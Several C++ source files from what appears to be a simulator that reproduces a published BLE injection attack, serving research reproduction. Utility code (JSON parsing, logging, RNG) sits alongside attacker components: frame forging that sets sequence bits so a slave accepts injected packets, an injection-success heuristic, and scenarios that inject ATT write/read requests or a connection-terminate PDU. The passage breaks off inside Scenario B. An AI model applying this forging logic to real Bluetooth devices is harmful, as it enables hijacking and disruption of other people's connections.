                if (p < end && *p == ']') {
                    ++p;
                    return true;
                }
                for (;;) {
                    Value element;
                    if (!parse_value(element, depth + 1)) return false;
                    out.array.push_back(std::move(element));
                    skip_ws();
                    if (p < end && *p == ',') {
                        ++p;
                        continue;
                    }
                    if (p < end && *p == ']') {
                        ++p;
                        return true;
                    }
                    return fail("expected ',' or ']'");
                }
            }
            case 't':
            case 'f': {
                const bool value = *p == 't';
                const char* word = value ? "true" : "false";
                const std::size_t len = std::strlen(word);
                if (static_cast<std::size_t>(end - p) < len ||
                    std::strncmp(p, word, len) != 0) {
                    return fail("bad literal");
                }
                p += len;
                out.kind = Value::Kind::kBool;
                out.boolean = value;
                return true;
            }
            case 'n': {
                if (static_cast<std::size_t>(end - p) < 4 || std::strncmp(p, "null", 4) != 0) {
                    return fail("bad literal");
                }
                p += 4;
                out.kind = Value::Kind::kNull;
                return true;
            }
            default: {
                // Number: keep the raw token verbatim so re-serialization
                // round-trips %.17g doubles and 64-bit integers bit-exactly.
                const char* start = p;
                if (p < end && (*p == '-' || *p == '+')) ++p;
                bool any = false;
                while (p < end && ((*p >= '0' && *p <= '9') || *p == '.' || *p == 'e' ||
                                   *p == 'E' || *p == '-' || *p == '+')) {
                    ++p;
                    any = true;
                }
                if (!any) return fail("unexpected character");
                out.kind = Value::Kind::kNumber;
                out.raw.assign(start, p);
                return true;
            }
        }
    }
};

}  // namespace

const Value* Value::find(std::string_view key) const noexcept {
    for (const auto& [name, member] : object) {
        if (name == key) return &member;
    }
    return nullptr;
}

std::uint64_t Value::as_u64(std::uint64_t fallback) const noexcept {
    if (kind != Kind::kNumber) return fallback;
    return std::strtoull(raw.c_str(), nullptr, 10);
}

std::int64_t Value::as_i64(std::int64_t fallback) const noexcept {
    if (kind != Kind::kNumber) return fallback;
    return std::strtoll(raw.c_str(), nullptr, 10);
}

double Value::as_double(double fallback) const noexcept {
    if (kind != Kind::kNumber) return fallback;
    return std::strtod(raw.c_str(), nullptr);
}

bool Value::as_bool(bool fallback) const noexcept {
    return kind == Kind::kBool ? boolean : fallback;
}

std::uint64_t Value::u64(std::string_view key, std::uint64_t fallback) const {
    const Value* v = find(key);
    return v != nullptr ? v->as_u64(fallback) : fallback;
}

std::int64_t Value::i64(std::string_view key, std::int64_t fallback) const {
    const Value* v = find(key);
    return v != nullptr ? v->as_i64(fallback) : fallback;
}

double Value::number(std::string_view key, double fallback) const {
    const Value* v = find(key);
    return v != nullptr ? v->as_double(fallback) : fallback;
}

bool Value::boolean_at(std::string_view key, bool fallback) const {
    const Value* v = find(key);
    return v != nullptr ? v->as_bool(fallback) : fallback;
}

std::string Value::string_at(std::string_view key, std::string fallback) const {
    const Value* v = find(key);
    return v != nullptr && v->kind == Kind::kString ? v->str : std::move(fallback);
}

void Value::dump(std::string& out) const {
    switch (kind) {
        case Kind::kNull: out += "null"; break;
        case Kind::kBool: out += boolean ? "true" : "false"; break;
        case Kind::kNumber: out += raw; break;
        case Kind::kString:
            out += '"';
            append_escaped(out, str);
            out += '"';
            break;
        case Kind::kArray: {
            out += '[';
            bool first = true;
            for (const Value& v : array) {
                if (!first) out += ',';
                first = false;
                v.dump(out);
            }
            out += ']';
            break;
        }
        case Kind::kObject: {
            out += '{';
            bool first = true;
            for (const auto& [name, member] : object) {
                if (!first) out += ',';
                first = false;
                out += '"';
                append_escaped(out, name);
                out += "\":";
                member.dump(out);
            }
            out += '}';
            break;
        }
    }
}

std::string Value::dump() const {
    std::string out;
    dump(out);
    return out;
}

ParseResult parse(std::string_view text) {
    ParseResult result;
    Parser parser{text.data(), text.data(), text.data() + text.size(), {}};
    if (!parser.parse_value(result.value, 0)) {
        result.error = parser.error;
        result.error_pos = parser.pos();
        return result;
    }
    parser.skip_ws();
    if (parser.p != parser.end) {
        result.error = "trailing characters";
        result.error_pos = parser.pos();
        return result;
    }
    result.ok = true;
    return result;
}

}  // namespace ble::json
