// Minimal recursive JSON reader for our own machine-readable artifacts
// (INJECTABLE_JSON series records, metrics snapshots, trace meta headers).
//
// Two properties matter more than generality:
//  * Number tokens are kept verbatim (`raw`), so dump() round-trips %.17g
//    doubles and 64-bit seeds bit-exactly — re-serializing a nested "meta"
//    object yields a line parse_trace_meta() reconstructs the identical
//    config from.
//  * Object members preserve insertion order, so dump() of a value we wrote
//    reproduces our writers' field order byte for byte.
//
// No third-party dependency: the container only ships the toolchain, and the
// grammar we emit is tiny (no comments, no trailing commas needed).
#pragma once

#include <cstdint>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

namespace ble::json {

class Value {
public:
    enum class Kind { kNull, kBool, kNumber, kString, kArray, kObject };

    Kind kind = Kind::kNull;
    bool boolean = false;
    std::string raw;  ///< number token, verbatim from the input
    std::string str;  ///< decoded string value
    std::vector<Value> array;
    std::vector<std::pair<std::string, Value>> object;  ///< insertion order

    [[nodiscard]] bool is_object() const noexcept { return kind == Kind::kObject; }
    [[nodiscard]] bool is_array() const noexcept { return kind == Kind::kArray; }

    /// First member named `key`, or nullptr (objects only).
    [[nodiscard]] const Value* find(std::string_view key) const noexcept;

    // Loose accessors: return the fallback when the kind does not match.
    [[nodiscard]] std::uint64_t as_u64(std::uint64_t fallback = 0) const noexcept;
    [[nodiscard]] std::int64_t as_i64(std::int64_t fallback = 0) const noexcept;
    [[nodiscard]] double as_double(double fallback = 0.0) const noexcept;
    [[nodiscard]] bool as_bool(bool fallback = false) const noexcept;
    [[nodiscard]] const std::string& as_string() const noexcept { return str; }

    // Keyed conveniences over find() for object values.
    [[nodiscard]] std::uint64_t u64(std::string_view key, std::uint64_t fallback = 0) const;
    [[nodiscard]] std::int64_t i64(std::string_view key, std::int64_t fallback = 0) const;
    [[nodiscard]] double number(std::string_view key, double fallback = 0.0) const;
    [[nodiscard]] bool boolean_at(std::string_view key, bool fallback = false) const;
    [[nodiscard]] std::string string_at(std::string_view key, std::string fallback = {}) const;

    /// Compact re-serialization (number tokens verbatim, members in stored
    /// order, strings re-escaped with the obs escaping rules).
    void dump(std::string& out) const;
    [[nodiscard]] std::string dump() const;
};

struct ParseResult {
    bool ok = false;
    Value value;
    std::string error;
    std::size_t error_pos = 0;  ///< byte offset of the failure
};

/// Parses one complete JSON value (trailing whitespace allowed, trailing
/// garbage is an error).
[[nodiscard]] ParseResult parse(std::string_view text);

}  // namespace ble::json
