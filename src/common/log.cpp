#include "common/log.hpp"

#include <atomic>
#include <cstdio>
#include <mutex>

namespace ble {

namespace {
std::atomic<LogLevel> g_level{LogLevel::kWarn};
std::mutex g_sink_mutex;
LogSink g_sink;  // guarded by g_sink_mutex; empty => stderr

const char* level_name(LogLevel level) {
    switch (level) {
        case LogLevel::kTrace: return "TRACE";
        case LogLevel::kDebug: return "DEBUG";
        case LogLevel::kInfo: return "INFO";
        case LogLevel::kWarn: return "WARN";
        case LogLevel::kError: return "ERROR";
        case LogLevel::kOff: return "OFF";
    }
    return "?";
}
}  // namespace

void set_log_level(LogLevel level) noexcept { g_level.store(level); }
LogLevel log_level() noexcept { return g_level.load(); }

void set_log_sink(LogSink sink) {
    const std::lock_guard lock(g_sink_mutex);
    g_sink = std::move(sink);
}

void log_message(LogLevel level, const std::string& msg) {
    if (level < log_level()) return;
    const std::lock_guard lock(g_sink_mutex);
    if (g_sink) {
        g_sink(level, msg);
    } else {
        std::fprintf(stderr, "[%s] %s\n", level_name(level), msg.c_str());
    }
}

}  // namespace ble
