#include "common/log.hpp"

#include <atomic>
#include <cstdio>
#include <memory>
#include <mutex>

namespace ble {

namespace {
std::atomic<LogLevel> g_level{LogLevel::kWarn};
// Copy-on-write sink: set_log_sink swaps the shared_ptr under the mutex,
// log_message snapshots it and invokes the sink *outside* the lock — so
// parallel trial workers never serialize on a logging mutex while a sink
// runs, and a sink that logs (reentrancy) cannot deadlock.
std::mutex g_sink_mutex;
std::shared_ptr<const LogSink> g_sink;  // null => stderr

const char* level_name(LogLevel level) {
    switch (level) {
        case LogLevel::kTrace: return "TRACE";
        case LogLevel::kDebug: return "DEBUG";
        case LogLevel::kInfo: return "INFO";
        case LogLevel::kWarn: return "WARN";
        case LogLevel::kError: return "ERROR";
        case LogLevel::kOff: return "OFF";
    }
    return "?";
}
}  // namespace

void set_log_level(LogLevel level) noexcept { g_level.store(level); }
LogLevel log_level() noexcept { return g_level.load(); }

void set_log_sink(LogSink sink) {
    std::shared_ptr<const LogSink> next =
        sink ? std::make_shared<const LogSink>(std::move(sink)) : nullptr;
    const std::lock_guard lock(g_sink_mutex);
    g_sink.swap(next);
    // `next` (the previous sink) destructs outside the critical section.
}

void log_message(LogLevel level, const std::string& msg) {
    if (level < log_level()) return;
    std::shared_ptr<const LogSink> sink;
    {
        const std::lock_guard lock(g_sink_mutex);
        sink = g_sink;
    }
    if (sink) {
        (*sink)(level, msg);
    } else {
        std::fprintf(stderr, "[%s] %s\n", level_name(level), msg.c_str());
    }
}

}  // namespace ble
