// Minimal leveled logger.
//
// The stack logs through a single global sink so tests can silence it and the
// examples/benches can turn on tracing.  Logging is deliberately simple
// (printf-style formatting done by callers) — this library's hot path is a
// discrete-event simulation where a heavyweight logger would dominate.
#pragma once

#include <functional>
#include <sstream>
#include <string>

namespace ble {

enum class LogLevel { kTrace = 0, kDebug = 1, kInfo = 2, kWarn = 3, kError = 4, kOff = 5 };

using LogSink = std::function<void(LogLevel, const std::string&)>;

/// Threshold below which messages are dropped. Defaults to kWarn.
void set_log_level(LogLevel level) noexcept;
LogLevel log_level() noexcept;

/// Replace the sink (default writes to stderr). Pass nullptr to restore it.
void set_log_sink(LogSink sink);

void log_message(LogLevel level, const std::string& msg);

namespace detail {
template <typename... Args>
void log_fmt(LogLevel level, const Args&... args) {
    if (level < log_level()) return;
    std::ostringstream os;
    (os << ... << args);
    log_message(level, os.str());
}
}  // namespace detail

#define BLE_LOG_TRACE(...) ::ble::detail::log_fmt(::ble::LogLevel::kTrace, __VA_ARGS__)
#define BLE_LOG_DEBUG(...) ::ble::detail::log_fmt(::ble::LogLevel::kDebug, __VA_ARGS__)
#define BLE_LOG_INFO(...) ::ble::detail::log_fmt(::ble::LogLevel::kInfo, __VA_ARGS__)
#define BLE_LOG_WARN(...) ::ble::detail::log_fmt(::ble::LogLevel::kWarn, __VA_ARGS__)
#define BLE_LOG_ERROR(...) ::ble::detail::log_fmt(::ble::LogLevel::kError, __VA_ARGS__)

}  // namespace ble
