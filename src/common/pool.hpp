// BufferPool: a bounded freelist of byte buffers.
//
// The dense-world hot loop copies one AirFrame payload per (transmission,
// locked receiver) pair and discards it microseconds later; without reuse
// that is an allocator round-trip per delivery.  The pool recycles the
// vectors instead: acquire() hands back a previously released buffer with
// its capacity intact (assign/resize then touch no allocator once the
// working set warms up), release() returns it.  Retention is capped so a
// burst never pins unbounded memory.
//
// Determinism: the pool only recycles storage.  Buffer *contents* are fully
// overwritten by acquire_copy/acquire before anyone reads them, so pooling
// can never alter simulated values, RNG draws, or event payloads.
//
// Single-threaded by design, like everything else owned by one trial's
// world: each worker gets its own pool, so there is no shared mutable state.
#pragma once

#include <cstddef>
#include <utility>
#include <vector>

#include "common/bytes.hpp"

namespace ble {

class BufferPool {
public:
    // No eager freelist reserve: a world that never pools (or pools a
    // handful of buffers) shouldn't pay a cap-sized allocation up front —
    // construction cost matters because every trial builds a fresh world.
    explicit BufferPool(std::size_t max_buffers = 256) : cap_(max_buffers) {}

    BufferPool(const BufferPool&) = delete;
    BufferPool& operator=(const BufferPool&) = delete;

    /// A buffer of exactly `size` bytes with unspecified contents.
    [[nodiscard]] Bytes acquire(std::size_t size) {
        Bytes b = take();
        b.resize(size);
        return b;
    }

    /// A buffer holding a copy of `src` (the pooled fast path for the
    /// per-receiver AirFrame payload copy).
    [[nodiscard]] Bytes acquire_copy(const Bytes& src) {
        Bytes b = take();
        b.assign(src.begin(), src.end());
        return b;
    }

    /// Returns a buffer to the pool; beyond the cap it simply deallocates.
    void release(Bytes&& b) noexcept {
        if (free_.size() >= cap_) return;  // b destructs here
        if (free_.size() == free_.capacity()) {
            // Lazy freelist growth: a small first block covers the few
            // in-flight buffers of a sparse world, one jump to the cap
            // covers a crowded one.  Never grows element-by-element.
            free_.reserve(free_.capacity() == 0 ? 16 : cap_);
        }
        b.clear();  // keep capacity, drop stale contents
        free_.push_back(std::move(b));
    }

    [[nodiscard]] std::size_t pooled() const noexcept { return free_.size(); }

private:
    [[nodiscard]] Bytes take() {
        if (free_.empty()) return Bytes{};
        Bytes b = std::move(free_.back());
        free_.pop_back();
        return b;
    }

    std::size_t cap_;
    std::vector<Bytes> free_;
};

}  // namespace ble
