#include "common/rng.hpp"

#include <cmath>
#include <numbers>

namespace ble {

namespace {
std::uint64_t splitmix64(std::uint64_t& x) noexcept {
    x += 0x9E3779B97F4A7C15ULL;
    std::uint64_t z = x;
    z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ULL;
    z = (z ^ (z >> 27)) * 0x94D049BB133111EBULL;
    return z ^ (z >> 31);
}

std::uint64_t rotl(std::uint64_t x, int k) noexcept { return (x << k) | (x >> (64 - k)); }
}  // namespace

Rng::Rng(std::uint64_t seed) noexcept {
    std::uint64_t x = seed;
    for (auto& word : s_) word = splitmix64(x);
}

std::uint64_t Rng::next_u64() noexcept {
    const std::uint64_t result = rotl(s_[1] * 5, 7) * 9;
    const std::uint64_t t = s_[1] << 17;
    s_[2] ^= s_[0];
    s_[3] ^= s_[1];
    s_[1] ^= s_[2];
    s_[0] ^= s_[3];
    s_[2] ^= t;
    s_[3] = rotl(s_[3], 45);
    return result;
}

std::uint64_t Rng::next_below(std::uint64_t bound) noexcept {
    if (bound == 0) return 0;
    // Rejection sampling over the largest multiple of `bound`.
    const std::uint64_t limit = bound * (~0ULL / bound);
    std::uint64_t v = next_u64();
    while (v >= limit) v = next_u64();
    return v % bound;
}

double Rng::next_double() noexcept {
    // 53 high-quality bits -> [0, 1).
    return static_cast<double>(next_u64() >> 11) * 0x1.0p-53;
}

double Rng::uniform(double lo, double hi) noexcept { return lo + (hi - lo) * next_double(); }

double Rng::normal(double mean, double stddev) noexcept {
    // Box-Muller; u1 nudged away from 0 so log() stays finite.
    const double u1 = next_double() + 1e-18;
    const double u2 = next_double();
    const double r = std::sqrt(-2.0 * std::log(u1));
    return mean + stddev * r * std::cos(2.0 * std::numbers::pi * u2);
}

Rng Rng::fork() noexcept { return Rng(next_u64()); }

}  // namespace ble
