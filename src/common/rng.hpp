// Deterministic random number generation.
//
// Every stochastic element of the simulation (clock drift, capture phase,
// payload noise) draws from an explicitly seeded Xoshiro256** stream, so any
// experiment is reproducible from its seed.  std::mt19937 is avoided because
// its state size and seeding rules make cross-platform reproducibility and
// cheap per-device forking awkward.
#pragma once

#include <cstdint>

namespace ble {

class Rng {
public:
    /// Seeds the four 64-bit words from the given seed via SplitMix64, per the
    /// xoshiro authors' recommendation (never yields the all-zero state).
    explicit Rng(std::uint64_t seed) noexcept;

    /// Uniform 64-bit value.
    std::uint64_t next_u64() noexcept;

    /// Uniform in [0, bound) without modulo bias (rejection sampling).
    std::uint64_t next_below(std::uint64_t bound) noexcept;

    /// Uniform double in [0, 1).
    double next_double() noexcept;

    /// Uniform double in [lo, hi).
    double uniform(double lo, double hi) noexcept;

    /// Standard normal via Box-Muller (no cached spare: keeps state trivially
    /// copyable and fork-independent).
    double normal(double mean, double stddev) noexcept;

    bool chance(double probability) noexcept { return next_double() < probability; }

    /// Derive an independent child stream (for per-device RNGs).
    Rng fork() noexcept;

private:
    std::uint64_t s_[4];
};

}  // namespace ble
