// Simulation time and the BLE timing constants the attack is built on.
//
// All simulation time is held in signed 64-bit *nanoseconds*.  The BLE spec
// expresses everything in microseconds (and 1250 µs units); nanoseconds give
// headroom so sub-µs clock-drift integration never rounds to zero.
#pragma once

#include <chrono>
#include <cstdint>

namespace ble {

/// Absolute simulation time in nanoseconds since simulation start.
using TimePoint = std::int64_t;
/// Signed duration in nanoseconds.
using Duration = std::int64_t;

constexpr Duration operator""_ns(unsigned long long v) { return static_cast<Duration>(v); }
constexpr Duration operator""_us(unsigned long long v) { return static_cast<Duration>(v) * 1000; }
constexpr Duration operator""_ms(unsigned long long v) {
    return static_cast<Duration>(v) * 1000 * 1000;
}
constexpr Duration operator""_s(unsigned long long v) {
    return static_cast<Duration>(v) * 1000 * 1000 * 1000;
}

constexpr Duration microseconds(std::int64_t v) { return v * 1000; }
constexpr Duration milliseconds(std::int64_t v) { return v * 1000 * 1000; }
constexpr Duration seconds(std::int64_t v) { return v * 1000 * 1000 * 1000; }
constexpr double to_us(Duration d) { return static_cast<double>(d) / 1000.0; }
constexpr double to_ms(Duration d) { return static_cast<double>(d) / 1'000'000.0; }

// --- The telemetry clock (host wall time, quarantined) ------------------
//
// Campaign telemetry (src/obs/telemetry, src/campaign heartbeats, the
// straggler watchdog) needs host wall time: shard latency, heartbeat age and
// throughput are properties of the run, not of the simulation.  Every such
// read flows through this ONE helper so the determinism boundary stays
// auditable: values derived from it live in the `telemetry.*` namespace and
// never reach sim-derived artifacts (records, metrics.*, prof.*, traces).
// This is the single audited wall-clock suppression of the telemetry path;
// injectable_lint rule D2 flags any other clock read outside common/rng.

/// Monotonic host time in nanoseconds (epoch unspecified; deltas only).
[[nodiscard]] inline std::int64_t telemetry_now_ns() noexcept {
    // injectable-lint: allow(D2) -- the telemetry clock: the one audited wall-clock read of the campaign telemetry path; telemetry.* values never enter deterministic outputs
    const auto now = std::chrono::steady_clock::now();
    return std::chrono::duration_cast<std::chrono::nanoseconds>(now.time_since_epoch())
        .count();
}

/// Monotonic host time in milliseconds — the unit telemetry records use.
[[nodiscard]] inline std::int64_t telemetry_now_ms() noexcept {
    return telemetry_now_ns() / 1'000'000;
}

// --- Bluetooth Core Specification timing constants (Vol 6, Part B) ---

/// Inter-frame spacing: gap between consecutive frames in a connection event.
constexpr Duration kTifs = 150_us;
/// Granularity of WinOffset / WinSize / connInterval (1.25 ms).
constexpr Duration kUnit1250us = 1250_us;
/// Granularity of supervision timeout (10 ms).
constexpr Duration kUnit10ms = 10_ms;
/// Constant term of the window-widening formula (Eq. 4 of the paper).
constexpr Duration kWindowWideningConstant = 32_us;
/// Mandatory delay between the end of CONNECT_REQ and the transmit window.
constexpr Duration kTransmitWindowDelayUncoded = 1250_us;

/// Connection interval from the Hop Interval field (paper Eq. 2).
constexpr Duration connection_interval(std::uint16_t hop_interval) {
    return static_cast<Duration>(hop_interval) * kUnit1250us;
}

}  // namespace ble
