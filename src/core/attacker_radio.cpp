#include "core/attacker_radio.hpp"

// Header-only in practice; this TU pins the vtable.
namespace injectable {}
