// The attacker's radio front-end: a rebindable RadioDevice.
//
// The paper's dongle (§V-E) is one nRF52840 whose firmware switches between
// sniffing, injecting and full role emulation. We model the same physical
// capabilities — half-duplex, one channel at a time, its own drifting sleep
// clock — and let the attack components rebind the rx/tx handlers as the
// attack progresses (follower -> injector -> hijacked-role Connection).
#pragma once

#include <functional>

#include "sim/radio_device.hpp"

namespace injectable {

class AttackerRadio final : public ble::sim::RadioDevice {
public:
    using ble::sim::RadioDevice::RadioDevice;

    std::function<void(const ble::sim::RxFrame&)> rx_handler;
    std::function<void()> tx_handler;

    void on_rx(const ble::sim::RxFrame& frame) override {
        if (rx_handler) rx_handler(frame);
    }
    void on_tx_complete() override {
        if (tx_handler) tx_handler();
    }
};

}  // namespace injectable
