#include "core/forge.hpp"

namespace injectable {

using ble::link::DataPdu;
using ble::link::Llid;

DataPdu forge_data_pdu(Llid llid, ble::Bytes payload, bool slave_sn, bool slave_nesn,
                       bool md) {
    const auto [sn, nesn] = forged_sequence_bits(slave_sn, slave_nesn);
    DataPdu pdu;
    pdu.llid = llid;
    pdu.payload = std::move(payload);
    pdu.sn = sn;
    pdu.nesn = nesn;
    pdu.md = md;
    return pdu;
}

ble::Bytes att_over_l2cap(const ble::att::AttPdu& pdu) {
    const ble::Bytes att = pdu.serialize();
    ble::ByteWriter w(4 + att.size());
    w.write_u16(static_cast<std::uint16_t>(att.size()));
    w.write_u16(0x0004);  // ATT fixed channel
    w.write_bytes(att);
    return w.take();
}

DataPdu forge_att_request(const ble::att::AttPdu& att, bool slave_sn, bool slave_nesn) {
    return forge_data_pdu(Llid::kDataStart, att_over_l2cap(att), slave_sn, slave_nesn);
}

DataPdu forge_ll_control(const ble::link::ControlPdu& control, bool slave_sn,
                         bool slave_nesn) {
    return forge_data_pdu(Llid::kControl, control.serialize(), slave_sn, slave_nesn);
}

}  // namespace injectable
