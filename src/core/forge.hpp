// Frame forging (paper §V-C, Eq. 6): build the malicious PDU so the slave's
// flow control accepts it as fresh, correctly-acknowledging master traffic.
#pragma once

#include <utility>

#include "att/att_pdu.hpp"
#include "common/bytes.hpp"
#include "link/control_pdu.hpp"
#include "link/pdu.hpp"

namespace injectable {

/// Eq. 6: given the SN/NESN bits observed in the slave's frame during the
/// previous connection event, returns {SN_a, NESN_a} for the injected frame.
[[nodiscard]] constexpr std::pair<bool, bool> forged_sequence_bits(bool slave_sn,
                                                                   bool slave_nesn) noexcept {
    //   SN_a   = NESN_s
    //   NESN_a = (SN_s + 1) mod 2
    return {slave_nesn, !slave_sn};
}

/// Builds a forged data-channel PDU carrying `payload`, with the Eq. 6 bits.
[[nodiscard]] ble::link::DataPdu forge_data_pdu(ble::link::Llid llid, ble::Bytes payload,
                                                bool slave_sn, bool slave_nesn,
                                                bool md = false);

/// Wraps an ATT PDU in its L2CAP frame (CID 0x0004) — the payload format of
/// scenario A's injected Write/Read Requests. Must fit one LL PDU.
[[nodiscard]] ble::Bytes att_over_l2cap(const ble::att::AttPdu& pdu);

/// Convenience: full forged LL payloads for the four scenarios.
[[nodiscard]] ble::link::DataPdu forge_att_request(const ble::att::AttPdu& att, bool slave_sn,
                                                   bool slave_nesn);
[[nodiscard]] ble::link::DataPdu forge_ll_control(const ble::link::ControlPdu& control,
                                                  bool slave_sn, bool slave_nesn);

}  // namespace injectable
