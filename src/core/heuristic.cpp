#include "core/heuristic.hpp"

namespace injectable {

HeuristicVerdict evaluate_injection(const InjectionObservation& obs) noexcept {
    HeuristicVerdict verdict;
    if (!obs.slave_rsp_start || !obs.slave_sn || !obs.slave_nesn) return verdict;
    verdict.response_seen = true;

    const ble::TimePoint expected = obs.tx_start + obs.tx_duration + ble::kTifs;
    const ble::TimePoint t_s = *obs.slave_rsp_start;
    verdict.timing_ok =
        (expected - kHeuristicTimingSlack < t_s) && (t_s < expected + kHeuristicTimingSlack);

    verdict.flow_ok = (!obs.sn_a == *obs.slave_nesn) && (obs.nesn_a == *obs.slave_sn);
    return verdict;
}

}  // namespace injectable
