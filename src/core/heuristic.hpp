// The paper's Eq. 7 injection-success heuristic (§V-D).
//
// The attacker cannot hear the legitimate master's frame (it is transmitting
// at that moment) and cannot check for collisions on the channel; everything
// it learns comes from the slave's response:
//   * timing — if the slave anchored on the *injected* frame, its response
//     starts T_IFS (150 µs) after the injected frame's end, within an
//     empirically determined ±5 µs;
//   * flow control — if the injected frame passed the CRC, the slave's NESN
//     advanced past the injected SN, and its SN equals the NESN the attacker
//     sent (Eq. 6 consistency).
#pragma once

#include <optional>

#include "common/time.hpp"

namespace injectable {

/// Everything the attacker observed about one injection attempt.
struct InjectionObservation {
    ble::TimePoint tx_start = 0;      ///< t_a: start of injected frame
    ble::Duration tx_duration = 0;    ///< d_a: airtime of injected frame
    bool sn_a = false;                ///< SN of the injected frame
    bool nesn_a = false;              ///< NESN of the injected frame

    /// Slave response, when one was heard at all.
    std::optional<ble::TimePoint> slave_rsp_start;  ///< t_s
    std::optional<bool> slave_sn;                   ///< SN'_s
    std::optional<bool> slave_nesn;                 ///< NESN'_s
};

struct HeuristicVerdict {
    bool response_seen = false;
    bool timing_ok = false;  ///< t_a + d_a + 150 - 5 < t_s < t_a + d_a + 150 + 5
    bool flow_ok = false;    ///< (SN_a+1)%2 == NESN'_s  &&  NESN_a == SN'_s
    /// Eq. 7: conjunction of both conditions.
    [[nodiscard]] bool success() const noexcept { return timing_ok && flow_ok; }
};

/// Half-width of the timing window around T_IFS ("we empirically estimated a
/// window width of 10 µs, resulting in the 5 µs in the above formula").
constexpr ble::Duration kHeuristicTimingSlack = ble::microseconds(5);

[[nodiscard]] HeuristicVerdict evaluate_injection(const InjectionObservation& obs) noexcept;

}  // namespace injectable
