#include "core/scenarios.hpp"

#include "common/log.hpp"
#include "core/forge.hpp"

namespace injectable {

using namespace ble;

// --- EmulatedEndpoint ---

EmulatedEndpoint::EmulatedEndpoint(AttackerRadio& radio, link::ConnectionConfig config,
                                   Upper upper, att::AttServer* server)
    : radio_(radio), upper_(upper), server_(server) {
    link::ConnectionHooks hooks;
    hooks.on_data = [this](const link::DataPdu& pdu) {
        if (l2cap_) l2cap_->handle_ll_pdu(pdu);
    };
    hooks.on_disconnected = [this](link::DisconnectReason reason) {
        if (on_disconnected) on_disconnected(reason);
    };
    hooks.on_event_closed = [this](const link::ConnectionEventReport& report) {
        if (on_event) on_event(report);
    };
    connection_ = std::make_unique<link::Connection>(radio_, std::move(config),
                                                     std::move(hooks));

    if (upper_ == Upper::kClient) {
        client_ = std::make_unique<att::AttClient>([this](const att::AttPdu& pdu) {
            if (l2cap_) l2cap_->send(host::kAttCid, pdu.serialize());
        });
    }

    l2cap_ = std::make_unique<host::L2capChannel>(
        27,
        [this](link::Llid llid, Bytes fragment) {
            connection_->send_data(llid, std::move(fragment));
        },
        [this](std::uint16_t cid, const Bytes& sdu) {
            if (on_sdu) on_sdu(cid, sdu);
            if (cid != host::kAttCid) return;
            const auto pdu = att::AttPdu::parse(sdu);
            if (!pdu) return;
            switch (upper_) {
                case Upper::kServer:
                    if (server_ != nullptr) {
                        if (const auto rsp = server_->handle_pdu(*pdu)) {
                            l2cap_->send(host::kAttCid, rsp->serialize());
                        }
                    }
                    break;
                case Upper::kClient:
                    client_->handle_pdu(*pdu);
                    break;
                case Upper::kTap:
                    break;
            }
        });

    radio_.rx_handler = [this](const sim::RxFrame& frame) { connection_->handle_rx(frame); };
    radio_.tx_handler = [this] { connection_->handle_tx_complete(); };
}

EmulatedEndpoint::~EmulatedEndpoint() {
    radio_.rx_handler = nullptr;
    radio_.tx_handler = nullptr;
}

void EmulatedEndpoint::resume(TimePoint next_anchor) { connection_->resume(next_anchor); }

void EmulatedEndpoint::send_sdu(std::uint16_t cid, BytesView sdu) { l2cap_->send(cid, sdu); }

void EmulatedEndpoint::notify(std::uint16_t handle, BytesView value) {
    l2cap_->send(host::kAttCid, att::make_notification(handle, value).serialize());
}

// --- Scenario A ---

void ScenarioA::inject_write(std::uint16_t handle, Bytes value,
                             std::function<void(const Result&)> done, bool command,
                             int max_attempts) {
    const att::AttPdu pdu = command ? att::make_write_cmd(handle, value)
                                    : att::make_write_req(handle, value);
    AttackSession::InjectionRequest request;
    request.llid = link::Llid::kDataStart;
    request.payload = att_over_l2cap(pdu);
    request.max_attempts = max_attempts;
    request.done = [done = std::move(done)](bool ok, int attempts) {
        if (done) done(Result{ok, attempts});
    };
    session_.inject(std::move(request));
}

void ScenarioA::inject_read(std::uint16_t handle,
                            std::function<void(const Result&, std::optional<Bytes>)> done,
                            int max_attempts) {
    // Arm the response capture *before* injecting: a fast slave answers in
    // the very event that carried the injected Read Request (the session
    // reports that response as a sniffed slave frame), and a slower one
    // answers in a later slave frame addressed to the legitimate master —
    // either way the attacker overhears it.
    reassembly_.clear();
    saved_packet_handler_ = session_.on_packet;

    struct ReadState {
        Result result;
        bool injection_done = false;
        std::optional<Bytes> captured;
        bool finished = false;
        int deadline = 40;  // slave frames to wait after a successful injection
    };
    auto state = std::make_shared<ReadState>();

    auto finish = [this, done, state](std::optional<Bytes> value) {
        if (state->finished) return;
        state->finished = true;
        const Result result = state->result;  // copy before handler swap
        session_.on_packet = saved_packet_handler_;  // may destroy the caller
        if (done) done(result, std::move(value));
    };

    session_.on_packet = [this, state, finish](const SniffedPacket& packet) {
        if (saved_packet_handler_) saved_packet_handler_(packet);
        if (state->finished) return;
        if (packet.sender != SniffedPacket::Sender::kSlave || !packet.crc_ok) return;
        if (state->injection_done && state->result.success && --state->deadline <= 0) {
            finish(std::nullopt);
            return;
        }
        if (packet.pdu.llid == link::Llid::kDataStart) {
            reassembly_ = packet.pdu.payload;
        } else if (packet.pdu.llid == link::Llid::kDataContinuation &&
                   !packet.pdu.payload.empty() && !reassembly_.empty()) {
            reassembly_.insert(reassembly_.end(), packet.pdu.payload.begin(),
                               packet.pdu.payload.end());
        } else {
            return;
        }
        // L2CAP header + ATT Read Response?
        if (reassembly_.size() < 5) return;
        ByteReader reader(reassembly_);
        const std::uint16_t len = *reader.read_u16();
        const std::uint16_t cid = *reader.read_u16();
        if (cid != host::kAttCid || reassembly_.size() < 4u + len) return;
        const auto att_pdu = att::AttPdu::parse(BytesView(reassembly_.data() + 4, len));
        if (!att_pdu || att_pdu->opcode != att::Opcode::kReadRsp) return;
        state->captured = att_pdu->params;
        // The response can precede the injection verdict (same event); only
        // finish once the request callback confirmed the injection.
        if (state->injection_done) finish(state->captured);
    };

    AttackSession::InjectionRequest request;
    request.llid = link::Llid::kDataStart;
    request.payload = att_over_l2cap(att::make_read_req(handle));
    request.max_attempts = max_attempts;
    request.done = [state, finish](bool ok, int attempts) {
        state->result.success = ok;
        state->result.attempts = attempts;
        state->injection_done = true;
        if (!ok) {
            finish(std::nullopt);
        } else if (state->captured) {
            finish(state->captured);
        }
    };
    session_.inject(std::move(request));
}

// --- Scenario B ---

void ScenarioB::execute(std::function<void(const Result&)> done, int max_attempts) {
    AttackSession::InjectionRequest request;
    request.llid = link::Llid::kControl;
    request.payload = link::TerminateInd{0x13}.to_control().serialize();
    request.max_attempts = max_attempts;
    request.done = [this, done = std::move(done)](bool ok, int attempts) {
